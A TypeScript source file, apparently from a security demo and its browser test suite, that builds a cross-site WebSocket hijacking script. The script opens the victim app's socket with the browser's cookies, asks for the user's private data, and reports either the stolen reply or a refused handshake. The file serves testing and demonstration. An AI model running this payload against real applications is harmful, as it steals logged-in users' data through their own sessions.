/**
 * The hijacking attempt, as page JavaScript: open the victim app's socket (the browser adds
 * the victim's cookies by itself), ask for private data, and report what happened through
 * `report(outcome)`. The demo's attacker page and the browser test suite run this same code.
 *
 * Outcomes: `{ stolen: data }` when the socket opened and answered, or
 * `{ refused: true, closeCode }` when the handshake was refused (browsers see 1006: the
 * HTTP status of a refused handshake is never exposed to page scripts).
 */
export function attackScript(targetSocketUrl: string): string {
  return `
function attack(report) {
  const socket = new WebSocket(${JSON.stringify(targetSocketUrl)});
  let opened = false;
  socket.onopen = () => {
    opened = true;
    socket.send(JSON.stringify({ event: 'whoami', data: null }));
  };
  socket.onmessage = (message) => {
    report({ stolen: JSON.parse(message.data).data });
    socket.close();
  };
  socket.onclose = (event) => {
    if (!opened) report({ refused: true, closeCode: event.code });
    else report({ closedBeforeAnswer: true, closeCode: event.code, reason: event.reason });
  };
}`;
}
